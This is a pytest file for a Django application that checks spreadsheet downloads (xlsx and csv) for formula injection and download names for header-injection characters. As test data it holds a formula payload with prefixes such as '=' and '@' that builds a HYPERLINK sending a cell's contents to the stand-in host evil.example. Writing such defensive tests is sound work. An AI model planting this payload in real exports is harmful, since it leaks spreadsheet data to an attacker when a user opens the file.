"""An attacker writes formulas into every text there is; whoever downloads a list opens it in a spreadsheet program. No cell counts, none calls out."""

import csv
from io import BytesIO, StringIO
from itertools import cycle

from django.http import HttpResponse
from openpyxl import load_workbook

from core.exporting import GUARDED
from tests.attacks.offered import ClientOf, seeing
from tests.attacks.poison import poison
from tests.desk.test_every_url_as_every_role import EXPECTED, Things, address, ask, product

STARTS = ("=", "+", "-", "@", "\t=", "\r=")
FORMULA = 'HYPERLINK("http://evil.example/"&A1,"点击")'
SHEETS = {".xlsx", ".csv"}
# Names of downloads go into a header.
LINES = "\r\n\x00"


def content_of(answer: HttpResponse) -> bytes:
    return b"".join(answer.streaming_content) if answer.streaming else answer.content  # type: ignore[attr-defined, arg-type]


def cells_of(content: bytes, name: str) -> list[tuple[str, str]]:
    """Of every cell of a download its kind (f: a formula) and its text."""
    if ".csv" in name:
        return [("s", cell) for row in csv.reader(StringIO(content.decode("utf-8-sig"))) for cell in row]
    book = load_workbook(BytesIO(content), read_only=True)
    return [
        (cell.data_type, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def downloads(things: Things, client_of: ClientOf) -> dict[str, HttpResponse]:
    """What every address that answers with a file gives the first of those who may ask."""
    found: dict[str, HttpResponse] = {}
    for name, rule in sorted(EXPECTED.items()):
        if not rule.post and rule.status == 200 and rule.who:
            url = address(name, product()[name], things)
            answer = ask(client_of(seeing(rule.who)[0]), rule, url, things.sent(name))
            if answer.get("Content-Disposition", "").startswith("attachment"):
                found[name] = answer
    return found


def test_no_cell_of_any_download_is_a_formula(things: Things, client_of: ClientOf) -> None:
    beginnings = cycle(STARTS)
    poison(lambda room: (next(beginnings) + FORMULA)[:room])
    reached, listed = set(), set()
    for name, answer in downloads(things, client_of).items():
        said = answer["Content-Disposition"]
        assert not set(LINES) & set(said), name
        if not any(kind in said for kind in SHEETS):
            continue
        cells = cells_of(content_of(answer), said)
        assert [cell for cell in cells if cell[0] == "f" or cell[1].startswith(GUARDED)] == [], name
        listed.add(name)
        if any("HYPERLINK" in text for _kind, text in cells):
            reached.add(name)
    # Where people's words are listed they did come in; the others are empty forms to fill in.
    assert reached >= {name for name in EXPECTED if name.endswith("-export")}
    assert len(listed) > 15
